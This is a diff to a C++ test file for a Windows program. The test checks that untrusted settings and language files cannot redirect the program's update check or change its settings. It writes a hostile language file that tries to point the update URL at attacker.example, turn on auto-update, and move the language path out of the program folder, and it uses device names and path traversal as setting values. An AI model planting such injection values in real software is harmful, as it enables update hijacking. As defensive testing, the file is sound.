@@ -4,6 +4,7 @@
 
 #include <shlobj.h>
 
+#include <fstream>
 #include <utility>
 #include <vector>
 
@@ -118,41 +119,29 @@ TEST(LanguageTest, MissingLanguageFileFallsBackToEnglishAndStoresIt) {
 
 // Names from the settings that point at a device or out of the program folder,
 // and a language file that names the engine's settings lists: the program
-// starts, stores the fallbacks, translates, and asks its update address only.
+// starts, stores the fallbacks, translates, and asks its own update address only.
 TEST(LanguageTest, UntrustedNamesAndLanguageFilesNeitherStopTheProgramNorChangeItsSettings) {
     {
         AppProcess app(ScratchProgram("lang_device", "COM1", {{"Skin", "..\\..\\x"}, {"Path.Skins", "C:\\"}}));
-        ASSERT_TRUE(app.Started());
         HWND main = app.MainWindow();
         ASSERT_NE(main, nullptr) << "the serial port must not hold the start";
         EXPECT_TRUE(WaitUntil([&] { return SendRegistered(main, "CL IfBusy") == 0; }));
-        EXPECT_NE(FindChild(main, "TallowButton", "Clear Now"), nullptr);
         app.Close();
         EXPECT_EQ(StoredSetting("lang_device", "Language"), "English");
         EXPECT_EQ(StoredSetting("lang_device", "Skin"), "Default");
     }
-
     TLoopbackServer server;
     TScopedSystemProxy proxy(server);  // every request of the program reaches the server
     const std::string exe =
         ScratchProgram("lang_hostile", "Hostile", {{"Update.BeginAuto", "1"}, {"Update.Days", "0"}});
-    const std::string lan = exe.substr(0, exe.rfind('\\') + 1) + "langs\\Hostile.lan";
-    const char hostile[] =
-        "[TfrmMain]\r\n"
-        "btnClearAll.Caption=Weg damit\r\n"
-        "engine1.SettingOverwrite=URL.Update=http://attacker.example/u/<BR>Update.BeginAuto=1<BR>Update.Days=0\r\n"
-        "engine1.SettingDefault=Path.Languages=..\\..\\outside\r\n";
-    HANDLE file = CreateFileA(lan.c_str(), GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
-    DWORD written = 0;
-    WriteFile(file, hostile, sizeof hostile - 1, &written, nullptr);
-    CloseHandle(file);
-
+    std::ofstream(exe.substr(0, exe.rfind('\\')) + "\\langs\\Hostile.lan", std::ios::binary)
+        << "[TfrmMain]\r\nbtnClearAll.Caption=Weg damit\r\n"
+           "engine1.SettingOverwrite=URL.Update=http://attacker.example/u/<BR>Update.BeginAuto=1\r\n"
+           "engine1.SettingDefault=Path.Languages=..\\..\\outside\r\n";
     AppProcess app(exe);
-    ASSERT_TRUE(app.Started());
     HWND main = app.MainWindow();
     ASSERT_NE(main, nullptr);
-    EXPECT_TRUE(WaitUntil([&] { return FindChild(main, "TallowButton", "Weg damit") != nullptr; }))
-        << "the language file translates";
+    EXPECT_TRUE(WaitUntil([&] { return FindChild(main, "TallowButton", "Weg damit") != nullptr; }));
     ASSERT_TRUE(WaitUntil([&] { return !server.Requests().empty(); })) << "the due update check asks";
     const std::string request = server.Requests()[0].requestLine;
     EXPECT_NE(request.find("update.tallowmere.example/update/"), std::string::npos) << request;
